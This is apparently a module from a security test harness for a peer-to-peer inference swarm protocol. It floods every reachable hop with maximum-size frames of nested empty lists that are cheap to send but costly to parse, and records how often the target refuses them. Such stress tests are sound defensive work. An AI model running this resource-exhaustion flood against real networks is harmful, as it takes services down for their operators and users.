"""Messages of nothing but empty lists.

They are small to send, and have thousands of objects to parse.
"""

from __future__ import annotations

import asyncio
import secrets

from attacks.target import Target, UntrustedPeer, listen, untrusted_peer
from protocols import frame
from protocols.defaults import MAX_REQUEST_BYTES
from protocols.errors import DeadlineError, PeerUnreachableError, SwarmError
from protocols.inference import Open
from protocols.services import DIRECTORY, HELLO, SESSION

BYTES = MAX_REQUEST_BYTES - 512
"""One larger would not leave the attacker's own client."""


def _frame(kind: str) -> bytes:
    data = frame.encode({"t": kind, "x": [[]] * BYTES})
    assert len(data) <= MAX_REQUEST_BYTES
    return data


async def attack(target: Target) -> None:
    us = await untrusted_peer(target)
    target.on_attack()
    await asyncio.gather(*(_flood(us, target, number) for number in range(len(us.nodes))))


async def _flood(us: UntrustedPeer, target: Target, number: int) -> None:
    hop = us.hop(number)
    while True:
        try:
            channel = await us.peer.pool.channel(hop.peer, hop.addresses, hop.certificate)
            for method, kind in ((HELLO, "hello"), (DIRECTORY, "directory?")):
                try:
                    await channel.unary(method, _frame(kind), 5.0)
                except (PeerUnreachableError, DeadlineError):
                    continue
                except SwarmError:
                    target.arrived[f"{method.name} refused"] += 1
            stream = await channel.stream(SESSION)
            grant = us.grant([hop], secrets.token_bytes(16))
            await stream.send(Open(grant=grant, index=0, dtype="float32").encode())
            await stream.send(_frame("step"))
            await listen(target, stream)
        except SwarmError:
            pass
        await asyncio.sleep(3 * BYTES / 500_000)  # 0.5 MB/s
